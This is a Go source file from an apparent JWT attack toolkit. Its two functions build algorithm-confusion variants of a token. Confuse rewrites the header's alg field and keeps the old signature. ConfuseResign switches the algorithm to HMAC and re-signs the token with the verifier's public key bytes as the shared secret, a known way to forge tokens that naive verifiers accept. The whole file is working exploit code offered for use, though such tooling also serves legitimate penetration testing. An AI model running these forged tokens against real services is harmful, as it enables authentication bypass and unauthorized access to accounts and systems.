package attack

import (
	"fmt"

	"github.com/MrEthical07/goForge/alg"
	"github.com/MrEthical07/goForge/token"
)

// Confuse rewrites the header alg to the target's canonical JOSE string and
// keeps the original signature bytes. The result probes verifiers that trust
// the declared algorithm; it does not carry a freshly forged signature.
//
// Confuse may return an error when input validation, dependency calls, or security checks fail.
// Confuse does not mutate shared global state and can be used concurrently when the receiver and dependencies are concurrently safe.
func Confuse(t *token.Token, target alg.Spec) (Variant, error) {
	if !target.Valid() {
		return Variant{}, fmt.Errorf("%w: %q", ErrUnknownTarget, target.String())
	}

	original := t.Algorithm()
	derived := t.Clone()
	if err := derived.SetHeaderField("alg", target.String()); err != nil {
		return Variant{}, fmt.Errorf("confusion variant: %w", err)
	}
	desc := fmt.Sprintf("alg rewritten from %q to %q, signature unchanged", original, target)
	return newVariant(KindConfusion, derived, desc), nil
}

// ConfuseResign rewrites the header alg to an HMAC target and re-signs the
// token with the verifier's public key source bytes as the symmetric secret.
// Verifiers that feed their configured key into whatever algorithm the header
// names accept the result.
//
// ConfuseResign may return an error when input validation, dependency calls, or security checks fail.
// ConfuseResign does not mutate shared global state and can be used concurrently when the receiver and dependencies are concurrently safe.
func ConfuseResign(t *token.Token, target alg.Spec, publicKeySource []byte, suite *alg.Suite) (Variant, error) {
	if !target.Valid() {
		return Variant{}, fmt.Errorf("%w: %q", ErrUnknownTarget, target.String())
	}
	if target.Family() != alg.FamilyHMAC {
		return Variant{}, fmt.Errorf("%w: got %s", ErrTargetNotHMAC, target)
	}
	if suite == nil {
		suite = alg.NewSuite(alg.Config{})
	}

	original := t.Algorithm()
	derived := t.Clone()
	if err := derived.SetHeaderField("alg", target.String()); err != nil {
		return Variant{}, fmt.Errorf("confusion variant: %w", err)
	}
	sig, err := suite.Sign(derived.SigningInput(), target, alg.SecretKey(publicKeySource))
	if err != nil {
		return Variant{}, fmt.Errorf("confusion resign: %w", err)
	}
	derived.SetSignatureBytes(sig)
	desc := fmt.Sprintf("alg rewritten from %q to %q, re-signed with the public key bytes as HMAC secret", original, target)
	return newVariant(KindConfusionResign, derived, desc), nil
}
